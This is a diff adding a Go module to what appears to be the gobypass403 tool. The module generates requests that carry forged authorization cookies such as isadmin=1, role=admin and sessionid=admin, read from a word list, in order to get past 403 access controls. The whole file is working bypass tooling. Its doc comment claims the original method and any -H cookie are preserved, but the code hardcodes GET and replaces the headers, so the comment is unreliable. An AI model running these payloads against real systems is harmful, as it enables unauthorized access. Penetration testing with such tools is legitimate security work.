@@ -0,0 +1,82 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GenerateHTTPCookiesPayloads generates payloads sending the original request with cookies
+commonly trusted for authorization or routing decisions, for applications and middlewares
+granting access based on a client-side flag instead of the session.
+
+It reads "name=value" lines from cookies.lst, e.g.:
+  - isadmin=1
+  - role=admin
+  - debug=true
+  - sessionid=admin (session fixation style values)
+  - X-Forwarded-For=127.0.0.1 (X- style cookies, for frameworks merging cookies and headers)
+
+One payload is generated per line, with a single Cookie header. A Cookie header set with -H
+is kept, the payload cookie is appended to it.
+
+The original URL's method, scheme, host, path and query string are preserved.
+Lines without a cookie name are skipped and duplicates are removed.
+*/
+func (pg *PayloadGenerator) GenerateHTTPCookiesPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return allJobs
+	}
+
+	cookies, err := pg.readModulePayloads("cookies.lst")
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read cookies: %v", err)
+		return allJobs
+	}
+
+	pathAndQuery := parsedURL.Path
+	if pathAndQuery == "" {
+		pathAndQuery = "/"
+	}
+	if parsedURL.Query != "" {
+		pathAndQuery += "?" + parsedURL.Query
+	}
+
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		RawURI:       pathAndQuery,
+		BypassModule: bypassModule,
+	}
+
+	seen := make(map[string]struct{})
+	for _, line := range cookies {
+		name, value, _ := strings.Cut(line, "=")
+		name, value = strings.TrimSpace(name), strings.TrimSpace(value)
+		if name == "" {
+			continue
+		}
+
+		cookie := name + "=" + value
+		if _, ok := seen[cookie]; ok {
+			continue
+		}
+		seen[cookie] = struct{}{}
+
+		job := baseJob
+		job.Headers = []Headers{{Header: "Cookie", Value: cookie}}
+		job.PayloadToken = GeneratePayloadToken(job)
+		allJobs = append(allJobs, job)
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(allJobs), targetURL)
+	return allJobs
+}